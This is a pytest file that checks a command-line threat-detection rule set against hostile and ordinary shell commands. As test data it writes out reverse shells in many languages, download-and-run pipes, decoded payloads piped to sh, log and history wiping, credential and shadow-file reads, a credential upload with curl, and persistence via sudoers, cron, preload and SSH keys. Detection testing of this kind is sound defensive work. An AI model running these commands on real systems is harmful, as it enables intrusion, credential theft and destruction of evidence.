"""Every built-in rule finds what it is for, and leaves ordinary work alone."""

from __future__ import annotations

import pytest

from esr_tui.divergence.rules import RuleSet, Subject
from esr_tui.model.verdict import graded
from tests.divergence.rule_subjects import (
    APPEND,
    WRITE,
    command,
    conduct,
    file,
    payload,
    ran,
    typed,
)

PYTHON_SHELL = (
    'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4444));'
    '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
)

FOUND: dict[str, list[Subject]] = {
    "decoded-into-shell": [
        typed("echo aWQK | base64 -d | sh"),
        typed("echo aWQK | base64 --decode | sudo /bin/bash"),
        typed("echo di | rev | bash"),
        typed("echo 69640a | xxd -r -p | sh"),
        typed("eval $(echo aWQK | base64 -d)"),
        typed("bash <(echo aWQK | base64 -d)"),
        typed('eval "`echo aWQK|base64 -d`"'),
        typed(r"printf '\x69\x64\n' | sh"),
        typed("base64 -d x | sh 2>/dev/null"),
        typed("base64 -d x | sh /dev/stdin"),
        typed("base64 -d x | bash -s now"),
        typed(r"echo -e '\x69\x64' | sh"),
        typed("base64 -d < a.b64 | gunzip | bash"),
        typed("echo SGk= | openssl enc -base64 -d | sh"),
        typed("echo vq | tr a-z n-za-m | sh"),
        typed("base64 -d x | " + "cat | " * 300 + "sh"),
        payload("x=1\necho aWQK | base64 -d | sh\n"),
        ran("bash -c 'echo aWQK | base64 -d | sh'"),
    ],
    "decoded-by-interpreter": [
        ran("""python3 -c 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'"""),
        payload(
            "import os\nos.system(bytes.fromhex('6964').decode())\nx = bytes.fromhex('00'); os.system(x)\n"
        ),
        ran("""perl -e 'use MIME::Base64; eval(decode_base64("cHJpbnQgMQ=="))'"""),
        ran("""node -e 'eval(Buffer.from("MQ==","base64").toString())'"""),
        ran("""php -r 'eval(base64_decode("ZWNobyAxOw=="));'"""),
    ],
    "script-from-scratch-folder": [
        ran("id", verdict="scripted", script="/tmp/x.sh"),
        ran("id", verdict="scripted", parents=(command("x", path="/dev/shm/x", interpreter="/bin/sh"),)),
    ],
    "script-just-written": [ran("id", verdict="scripted", script="/home/ada/x.sh", written=True)],
    "echo-off-command": [ran("id", verdict="unseen", echo=False)],
    "echo-switched-off": [ran("stty -echo")],
    "prompt-hook": [
        typed("trap 'echo $BASH_COMMAND >> /tmp/x' DEBUG"),
        typed("PROMPT_COMMAND='id > /tmp/x'"),
        ran("bash x.sh", environment={"BASH_ENV": "/tmp/x"}),
    ],
    "reverse-shell-dev-tcp": [
        typed("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        payload("exec 5<>/dev/tcp/192.0.2.1/4444\ncat <&5 | sh\n"),
        ran("bash -c 'sh -i >& /dev/udp/192.0.2.1/53 0>&1'"),
    ],
    "dev-tcp": [typed("cat < /dev/tcp/127.0.0.1/22")],
    "reverse-shell-netcat": [
        ran("nc -e /bin/sh 192.0.2.1 4444"),
        ran("nc.traditional 192.0.2.1 4444 -e /bin/bash"),
        ran("ncat --sh-exec bash 192.0.2.1 1"),
        ran("nc -lvp 4444 -ve /bin/bash"),
        payload("nc 192.0.2.1 4444 -e /bin/bash"),
    ],
    "reverse-shell-fifo": [
        typed("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f"),
        payload("mknod b p\nopenssl s_client -quiet -connect 192.0.2.1:443 < b | sh > b\n"),
        typed("telnet 192.0.2.1 1 | sh | telnet 192.0.2.1 2"),
    ],
    "reverse-shell-socat": [
        ran("socat exec:'bash -li',pty,stderr TCP:192.0.2.1:4444"),
        ran("socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh"),
    ],
    "reverse-shell-python": [ran(f"python3 -c '{PYTHON_SHELL}'"), payload(PYTHON_SHELL.replace(";", "\n"))],
    "reverse-shell-perl": [
        ran(
            """perl -e 'use Socket;$i="192.0.2.1";socket(S,2,1,6);connect(S,$p);open(STDIN,">&S");exec("/bin/sh -i")'"""
        ),
        payload('$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:1");STDIN->fdopen($c,r);system$_ while<>;'),
    ],
    "reverse-shell-script": [
        ran("""php -r '$s=fsockopen("192.0.2.1",1);exec("/bin/sh -i <&3 >&3 2>&3");'"""),
        ran("""ruby -rsocket -e 'f=TCPSocket.open("192.0.2.1",1).to_i;exec sprintf("/bin/sh -i <&%d",f)'"""),
        ran("""lua -e 'require("socket");t=socket.tcp();os.execute("/bin/sh -i <&3")'"""),
        ran("""node -e 'require("child_process").spawn("sh");require("net").connect(1,"192.0.2.1")'"""),
        ran("""gawk 'BEGIN{s="/inet/tcp/0/192.0.2.1/1";while(1){s|&getline c;c|getline}}'"""),
    ],
    "interpreter-on-socket": [ran("sh -i", stdin="socket", parents=(command("python3 x.py"),))],
    "memfd-executed": [ran("x", path="memfd:x", image="memfd")],
    "descriptor-executed": [ran("x", path="/proc/self/fd/3")],
    "deleted-image": [ran("x", image="deleted")],
    "shared-memory-executed": [ran("x", path="/dev/shm/x")],
    "hidden-file-executed": [
        ran("x", path="/tmp/.x/run"),
        ran("x", path="/var/tmp/.run"),
        ran("x", path="/home/ada/.../run"),
        ran("x", path="/home/ada/.. /run"),
    ],
    "dot-file-executed": [ran("x", path="/home/ada/.run")],
    "preload-file": [
        typed("echo /tmp/x.so > /etc/ld.so.preload"),
        typed("echo /tmp/x.so | sudo tee -a /etc/ld.so.preload"),
    ],
    "preload-file-written": [
        file("/etc/ld.so.preload", flags=WRITE),
        file("/tmp/x", "mv", operation="rename", target="/etc/ld.so.preload", return_code=0),
    ],
    "preload-hidden": [
        ran("ls", environment={"LD_PRELOAD": "/tmp/x.so"}),
        ran("ls", environment={"LD_PRELOAD": "./x.so"}),
        typed("LD_PRELOAD=/dev/shm/x.so ls"),
        typed("export LD_PRELOAD=$PWD/x.so"),
    ],
    "preload": [ran("ls", environment={"LD_PRELOAD": "/usr/lib/libjemalloc.so"})],
    "history-tampered": [
        typed("history -c"),
        typed("cd /tmp; history -cw && id"),
        typed("unset HISTFILE; id"),
        typed("export HISTFILE=/dev/null; id"),
        typed('HISTFILE="" ; id'),
        typed("HISTSIZE=0 id"),
        typed("set +o history; id"),
        ran("ln -sf /dev/null /home/ada/.bash_history"),
        ran("rm /home/ada/.bash_history"),
        ran("truncate -s0 /home/ada/.zsh_history"),
        typed("true > ~/.bash_history"),
        typed('echo "" > $HISTFILE'),
        payload("id\nhistory -c\n"),
    ],
    "history-file-removed": [
        file("/home/ada/.bash_history", "rm", operation="unlink", return_code=0),
        file("/root/.zsh_history", "truncate", operation="truncate", return_code=0),
    ],
    "history-control": [typed("export HISTCONTROL=ignoreboth; whoami")],
    "log-tampered": [
        ran("rm -f /var/log/auth.log"),
        typed("> /var/log/wtmp; id"),
        typed("cat /dev/null > /var/log/syslog"),
        ran("sed -i /192.0.2.1/d /var/log/auth.log"),
        ran("shred -u /var/log/audit/audit.log"),
    ],
    "log-removed": [
        file("/var/log/auth.log", "rm", operation="unlink", return_code=0),
        file("/var/log/wtmp", "bash", flags=WRITE),
    ],
    "log-vacuumed": [ran("journalctl --vacuum-time=1s"), ran("dmesg -C")],
    "audit-switched-off": [
        ran("auditctl -D"),
        ran("auditctl -e 0"),
        ran("systemctl stop auditd"),
        ran("systemctl disable --now rsyslog"),
        ran("pkill -9 rsyslogd"),
        ran("pkill -f esr"),
    ],
    "times-changed": [ran("touch -acmr /bin/sh x"), ran("touch -m -t 197001010000.00 x")],
    "shadow-read": [file("/etc/shadow", "cat"), file("/etc/gshadow-", "python3")],
    "shadow-named": [ran("cat /etc/shadow"), payload("cp /etc/shadow /tmp/x\n")],
    "keys-read": [file("/home/ada/.ssh/id_ed25519", "cat"), file("/etc/ssh/ssh_host_rsa_key", "tar")],
    "cloud-secrets-read": [file("/home/ada/.aws/credentials", "cat"), file("/home/ada/.netrc", "grep")],
    "secrets-named": [
        ran("cat /home/ada/.ssh/id_rsa"),
        ran("curl -T /root/.aws/credentials http://127.0.0.1/"),
    ],
    "memory-read": [ran("gcore 12"), ran("gdb -p 12"), ran("dd if=/proc/12/mem of=x")],
    "download-into-shell": [
        typed("curl -s http://192.0.2.1/x | sh"),
        typed("wget -qO- http://192.0.2.1/x | sudo -E bash -s -- --yes"),
        typed('sh -c "$(curl -fsSL http://192.0.2.1/x)"'),
        typed("bash <(curl -s http://192.0.2.1/x)"),
        typed(". <(curl -s http://192.0.2.1/x)"),
        typed("curl http://192.0.2.1/x | python3"),
        payload("curl http://192.0.2.1/x | sh\n"),
        ran("bash -c 'curl http://192.0.2.1/x | bash'"),
    ],
    "download-made-executable": [
        typed("wget http://192.0.2.1/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"),
        typed("curl -o x http://192.0.2.1/x && chmod 755 x && ./x"),
        payload("wget http://192.0.2.1/x\nchmod 777 x\n./x\n"),
    ],
    "scratch-program-executed": [ran("x", path="/tmp/x", verdict="piped")],
    "at-job": [ran("at now + 1 minute"), ran("batch")],
    "cron-changed": [ran("crontab -"), ran("crontab x"), ran("crontab -e")],
    "cron-written": [
        file("/etc/cron.d/x", flags=WRITE),
        file("/var/spool/cron/crontabs/ada", "tee", flags=APPEND),
    ],
    "cron-named": [
        typed("echo '* * * * * root id' >> /etc/crontab"),
        typed("echo '* * * * * id' | crontab -"),
    ],
    "systemd-run": [ran("systemd-run --user id"), ran("machinectl shell root@")],
    "unit-written": [
        file("/etc/systemd/system/x.service", flags=WRITE),
        file("/home/ada/.config/systemd/user/x.timer", flags=WRITE),
    ],
    "container-breakout": [
        ran("docker run -v /:/host -it alpine chroot /host"),
        ran("docker run --rm --privileged alpine"),
        ran("podman run --pid=host alpine"),
    ],
    "container-command": [ran("docker exec -it web id")],
    "namespace-entered": [ran("nsenter -t 1 -a")],
    "namespace-made": [ran("unshare -r sh"), ran("bwrap --bind / / sh")],
    "namespaces-changed": [
        conduct("unshare", namespaces=["user", "mount"]),
        conduct("setns", "nsenter"),
        conduct("setns", arguments=[3, 0x40000000], namespaces=["net"]),
        conduct("clone", namespaces=["pid"], return_code=77),
    ],
    "process-taken-hold-of": [
        conduct("ptrace", request="attach", target=7),
        conduct("ptrace", "gdb", request="seize", target=7),
        conduct("ptrace", request="poke", target=7),
        conduct("process_vm_writev", target=7, return_code=8),
    ],
    "io-uring-used": [conduct("io_uring_setup"), conduct("io_uring_setup", "curing")],
    "root-by-setuid-bit": [
        ran("./bash -p", path="/tmp/bash", euid=0, ruid=1000),
        ran("find . -exec sh", path="/usr/bin/find", euid=0, ruid=1000),
    ],
    "root-by-call": [
        conduct("setuid", arguments=[0, 1, 2], euid=1000),
        conduct("setresuid", arguments=[-1, 0, -1], euid=1000),
        conduct("setreuid", arguments=[-1, 0], euid=1000),
    ],
    "setuid-set": [
        ran("chmod u+s /tmp/x"),
        ran("chmod 4755 x"),
        ran("chmod +s x"),
        ran("install -m 4755 a b"),
        payload("cp /bin/sh x; chmod 4755 x\n"),
    ],
    "setuid-mode": [file("/tmp/x", "python3", operation="chmod", mode=0o104755, return_code=0)],
    "capabilities-set": [ran("setcap cap_setuid+ep /usr/bin/python3"), ran("setcap all=+ep x")],
    "sudoers-changed": [
        typed("echo 'ada ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
        typed("echo x | sudo tee /etc/sudoers.d/x"),
    ],
    "sudoers-written": [
        file("/etc/sudoers.d/x", "tee", flags=WRITE),
        file("/etc/sudoers", "sed", flags=APPEND),
    ],
    "authorized-keys-changed": [typed("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys")],
    "authorized-keys-written": [file("/root/.ssh/authorized_keys", "bash", flags=APPEND)],
    "account-file-written": [file("/etc/passwd", "bash", flags=APPEND)],
    "shell-startup-changed": [typed("echo id >> ~/.bashrc")],
}

ORDINARY: dict[str, list[Subject]] = {
    "decoded-into-shell": [
        typed("echo aWQK | base64 -d"),
        typed("base64 -d < logo.b64 > logo.png; sh build.sh"),
        typed("kubectl get secret x -o json | base64 -d | jq ."),
        typed("zcat log.gz | grep ssh"),
        typed("ls | rev | sort | show"),
        typed("git log | cat\nsh x"),
        payload("zcat a.gz\n" * 50 + "x | sh\n"),
        ran("gzip -d", pipeline="base64 -d | /bin/sh /usr/bin/gunzip"),
    ],
    "decoded-by-interpreter": [ran("""python3 -c 'import base64; print(base64.b64decode("aWQK"))'""")],
    "script-from-scratch-folder": [
        ran("id", verdict="scripted", script="/home/ada/build.sh"),
        ran("id", script="/tmp/x.sh"),
    ],
    "script-just-written": [ran("id", verdict="scripted", script="/home/ada/x.sh")],
    "echo-off-command": [ran("id", verdict="unseen"), ran("sudo id", echo=False)],
    "echo-switched-off": [ran("stty -a"), ran("stty sane")],
    "prompt-hook": [typed("trap 'rm -f $tmp' EXIT"), typed("trap - INT; echo DEBUG")],
    "reverse-shell-dev-tcp": [
        typed("bash -i"),
        typed("ls -l /dev/tcp"),
        typed("(echo > /dev/tcp/db/5432) && echo up"),
    ],
    "dev-tcp": [typed("ls /dev/tcp")],
    "reverse-shell-netcat": [
        ran("nc -zv db 5432"),
        ran("nc -l 4444"),
        ran("ssh -c aes256-ctr host bash"),
        ran("ncat --ssl host 443"),
    ],
    "reverse-shell-fifo": [typed("mkfifo /tmp/q; tail -f /tmp/q"), typed("nc -z host 22")],
    "reverse-shell-socat": [
        ran("socat TCP-LISTEN:8080,fork TCP:web:80"),
        ran("socat - UNIX-CONNECT:/run/x.sock"),
    ],
    "reverse-shell-python": [
        ran("""python3 -c 'import socket; print(socket.gethostname())'"""),
        payload(
            "import socket\ns = socket.create_connection(('db', 5432))\nprint(s.recv(10))\n",
            verdict="scripted",
        ),
    ],
    "reverse-shell-perl": [ran("""perl -e 'use Socket; print inet_aton("localhost")'""")],
    "reverse-shell-script": [
        ran("""ruby -rsocket -e 'p TCPSocket.open("db", 1).read'"""),
        ran("""node -e 'require("net")'"""),
    ],
    "interpreter-on-socket": [
        ran("sh -c id", stdin="socket", parents=(command("bash", stdin="socket"),)),
        ran("bash", stdin="socket", parents=()),
        ran("cat", stdin="socket"),
        ran("/bin/sh -c uname", stdin="socket", parents=(command("node build.js"),)),
        ran("sh -c uptime", stdin="socket", parents=(command("tmux new"),)),
    ],
    "memfd-executed": [
        ran("x"),
        ran("runc init", path="memfd:runc_cloned:/x", image="memfd", parents=(command("runc"),)),
    ],
    "descriptor-executed": [ran("bash /dev/fd/63")],
    "deleted-image": [ran("x")],
    "shared-memory-executed": [ran("ls /dev/shm")],
    "hidden-file-executed": [
        ran("x", path="/home/ada/.local/bin/x"),
        ran("python", path="/srv/app/.venv/bin/python"),
        ran("x", path="/tmp/build/x"),
        ran("ls /tmp/.x"),
        ran("x", path="/usr/lib/../bin/x"),
    ],
    "dot-file-executed": [ran("x", path="/home/ada/.cargo/bin/cargo")],
    "preload-file": [typed("cat /etc/ld.so.preload"), ran("ls /etc/ld.so.preload")],
    "preload-file-written": [
        file("/etc/ld.so.preload", "ls"),
        file("/etc/ld.so.cache", "ldconfig", flags=WRITE),
    ],
    "preload-hidden": [ran("ls", environment={"LD_PRELOAD": "libjemalloc.so.2"}), typed("echo LD_PRELOAD")],
    "preload": [ran("ls", environment={"LD_PRELOAD": "/usr/libexec/coreutils/libstdbuf.so"}), ran("ls")],
    "history-tampered": [
        typed("history | grep ssh"),
        typed("grep 'history -c' notes.txt"),
        typed("export HISTSIZE=10000"),
        typed("export HISTFILE=~/.bash_history"),
        typed("cat ~/.bash_history"),
        typed("rm history.txt"),
    ],
    "history-file-removed": [
        file("/home/ada/.bash_history", "bash", operation="truncate", return_code=0),
        file("/home/ada/notes", "rm", operation="unlink", return_code=0),
    ],
    "history-control": [typed("env | grep HIST")],
    "log-tampered": [
        ran("tail -f /var/log/syslog"),
        ran("rm /var/log/myapp/old.log"),
        typed("ls 2> /tmp/x; cat /var/log/auth.log > /tmp/copy"),
    ],
    "log-removed": [
        file("/var/log/auth.log", "tail"),
        file("/var/log/syslog", "logrotate", operation="unlink", return_code=0),
        file("/var/log/apt/history.log", "apt", flags=APPEND),
    ],
    "log-vacuumed": [ran("journalctl -u ssh -f"), ran("dmesg -T")],
    "audit-switched-off": [
        ran("systemctl status auditd"),
        ran("auditctl -l"),
        ran("systemctl stop nginx"),
        ran("pkill -u esr-ada -x vi"),
    ],
    "times-changed": [ran("touch x"), ran("touch notes-r.txt")],
    "shadow-read": [
        file("/etc/shadow", "sudo"),
        file("/etc/shadow", "cat", return_code=-13),
        file("/etc/passwd", "cat"),
    ],
    "shadow-named": [
        ran("ls -l /etc/shadow"),
        ran("cat /etc/passwd"),
        payload("grep x /etc/shadow", verdict="scripted"),
    ],
    "keys-read": [file("/home/ada/.ssh/id_ed25519", "ssh"), file("/home/ada/.ssh/id_ed25519.pub", "cat")],
    "cloud-secrets-read": [file("/home/ada/.aws/credentials", "aws"), file("/home/ada/.netrc", "git")],
    "secrets-named": [ran("ssh -i /home/ada/.ssh/id_rsa host"), ran("cat /home/ada/.ssh/id_rsa.pub")],
    "memory-read": [ran("gdb ./a.out"), ran("cat /proc/meminfo")],
    "download-into-shell": [
        typed("curl -s http://127.0.0.1/x | jq ."),
        typed("wget http://127.0.0.1/x.sh; less x.sh"),
        typed("curl http://127.0.0.1/x | sha256sum"),
        payload("# usage: curl http://x | sh\n", verdict="scripted"),
    ],
    "download-made-executable": [
        typed("wget http://127.0.0.1/x.tgz; tar xf x.tgz"),
        typed("chmod +x run.sh; ./run.sh"),
    ],
    "scratch-program-executed": [
        ran("x", path="/tmp/x"),
        ran("x", path="/tmp/x", verdict="scripted"),
        ran("ls /tmp/x", verdict="piped"),
    ],
    "at-job": [ran("at -l"), ran("atq"), ran("cat x")],
    "cron-changed": [ran("crontab -l")],
    "cron-written": [file("/etc/crontab", "cat"), file("/etc/cron.d/x", "dpkg", flags=WRITE)],
    "cron-named": [typed("cat /etc/crontab"), typed("crontab -l | crontab-ui")],
    "systemd-run": [ran("systemctl status ssh")],
    "unit-written": [file("/etc/systemd/system/x.service", "cat"), file("/srv/x.service", flags=WRITE)],
    "container-breakout": [ran("docker run --rm -v /srv/data:/data alpine ls"), ran("docker ps")],
    "container-command": [ran("docker ps -a"), ran("docker build .")],
    "namespace-entered": [ran("lsns")],
    "namespaces-changed": [
        conduct("unshare", arguments=[0x400]),  # of open files, no namespace
        conduct("unshare", namespaces=["user"], return_code=-1),
        conduct("clone", "podman", namespaces=["user"]),
        conduct("setuid", "sudo", arguments=[0]),
    ],
    "process-taken-hold-of": [
        conduct("ptrace", "strace", request="seize", target=7, child=True),
        conduct("ptrace", "gdb", request="traceme"),
        conduct("ptrace", "gdb", request="attach", target=7, return_code=-1),
        conduct("setuid", arguments=[7]),
    ],
    "io-uring-used": [conduct("io_uring_setup", "node"), conduct("unshare", namespaces=["net"])],
    "root-by-setuid-bit": [
        ran("sudo ls", euid=0, ruid=1000),
        ran("su -", euid=0, ruid=1000),
        ran("mount /mnt", euid=0, ruid=1000),
        ran("/usr/lib/openssh/ssh-keysign", euid=0, ruid=1000),
        ran("ls", euid=0, ruid=0),
        ran("ls", euid=1000, ruid=1000),
    ],
    "root-by-call": [
        conduct("setuid", "sudo", arguments=[0], euid=0),
        conduct("setuid", arguments=[0], euid=1000, return_code=-1),
        conduct("setuid", arguments=[1000], euid=1000),
        conduct("setgid", arguments=[0], euid=1000),
        conduct("setresuid", "podman", arguments=[0, 0, 0], euid=1000),
        conduct("setresuid", arguments=[-1, -1, -1], euid=1000),
    ],
    "namespace-made": [ran("bwrap --version"), ran("ls")],
    "setuid-set": [
        ran("chmod 755 x"),
        ran("chmod +x x"),
        ran("chmod u=rwx,g=rx x"),
        ran("chmod 0644 x"),
        ran("install -m 755 a b"),
        ran("chmod 1777 /srv/tmp"),
    ],
    "setuid-mode": [file("/tmp/x", "chmod", operation="chmod", mode=0o755, return_code=0)],
    "capabilities-set": [ran("getcap /usr/bin/ping"), ran("setcap cap_net_bind_service=+ep ./web")],
    "sudoers-changed": [typed("sudo cat /etc/sudoers"), typed("sudo visudo")],
    "sudoers-written": [file("/etc/sudoers", "sudo"), file("/etc/sudoers.tmp", "visudo", flags=WRITE)],
    "authorized-keys-changed": [typed("cat ~/.ssh/authorized_keys"), typed("ssh-copy-id host")],
    "authorized-keys-written": [
        file("/home/ada/.ssh/authorized_keys", "sshd"),
        file("/home/ada/.ssh/known_hosts", "ssh", flags=APPEND),
    ],
    "account-file-written": [file("/etc/passwd", "bash"), file("/etc/passwd", "useradd", flags=WRITE)],
    "shell-startup-changed": [typed("source ~/.bashrc"), typed("vim ~/.bashrc")],
}


@pytest.fixture(scope="module")
def builtin() -> RuleSet:
    return RuleSet.load()


def cases(table: dict[str, list[Subject]]) -> list[object]:
    return [
        pytest.param(rule, subject, id=f"{rule}-{number}")
        for rule, subjects in table.items()
        for number, subject in enumerate(subjects)
    ]


def matched(builtin: RuleSet, subject: Subject) -> set[str]:
    return {match.id for match in builtin.match(subject)}


@pytest.mark.parametrize(("rule", "subject"), cases(FOUND))
def test_found(builtin: RuleSet, rule: str, subject: Subject) -> None:
    assert rule in matched(builtin, subject)


@pytest.mark.parametrize(("rule", "subject"), cases(ORDINARY))
def test_left_alone(builtin: RuleSet, rule: str, subject: Subject) -> None:
    assert rule not in matched(builtin, subject)


def test_every_rule_has_both_tests(builtin: RuleSet) -> None:
    rules = {rule.id for rule in builtin.rules}
    assert rules == FOUND.keys() == ORDINARY.keys()


@pytest.mark.parametrize(
    "subject",
    [
        conduct("unshare", "unshare", namespaces=["user"], verdict="shown"),
        conduct("setns", "ip", verdict="shown"),
        conduct("ptrace", "strace", request="seize", target=7, verdict="shown"),
        conduct("ptrace", "gdb", request="attach", target=7, verdict="shown"),
        conduct("io_uring_setup", "fio2", verdict="shown"),
        conduct("setresuid", "sudo", arguments=[0, 0, 0], euid=0, ruid=1000, verdict="shown"),
        conduct("setuid", "su", arguments=[1000], euid=0, ruid=1000, verdict="shown"),
        conduct("ptrace", "sudo", request="seize", target=7, child=True, verdict="implied"),
        conduct("setgid", "man", arguments=[12], verdict="shown"),
    ],
)
def test_what_is_typed_openly_is_at_most_low(builtin: RuleSet, subject: Subject) -> None:
    assert graded(subject.verdict, "info", builtin.match(subject)) in ("info", "low")


def test_every_rule_names_a_technique(builtin: RuleSet) -> None:
    assert [rule.id for rule in builtin.rules if not rule.technique] == []


EVERYDAY = """
ls -la | cd /srv && git pull | git commit -m "fix: history -c in docs" | make -j8 | python3 -m pytest -q
docker compose up -d | systemctl status ssh | journalctl -fu ssh | tail -f /var/log/syslog | sudo apt update
ssh web1 uptime | scp a.txt web1:/tmp/ | rsync -a src/ web1:/srv/ | tar czf x.tgz src | grep -rn base64 src
find . -name '*.py' | xargs wc -l | curl -s http://127.0.0.1:8080/health | vim ~/.bashrc | man bash | top
kubectl get pods -A | terraform plan | npm ci | cargo build | go test ./... | pip install -r requirements.txt
for i in 1 2 3; do echo $i; done | while read l; do echo "$l"; done < x | ps aux | df -h | free -m | ss -tlnp
crontab -l | chmod +x run.sh | chown ada: x | mkdir -p a/b | cp -r a b | mv b c | rm -rf build | touch x
echo hello > /tmp/x | cat /etc/os-release | sed -i s/a/b/ x | awk '{print $1}' x | sort x | uniq -c | tmux new
""".replace("\n", " | ").split(" | ")


def test_everyday_lines_raise_nothing_of_weight(builtin: RuleSet) -> None:
    raised = {
        line: [(match.id, match.severity) for match in matches if match.severity not in ("info", "low")]
        for line in EVERYDAY
        if line.strip()
        for matches in [builtin.match(ran("true", typed=line, pipeline=line, payload=(line,)))]
    }
    assert {line: found for line, found in raised.items() if found} == {}
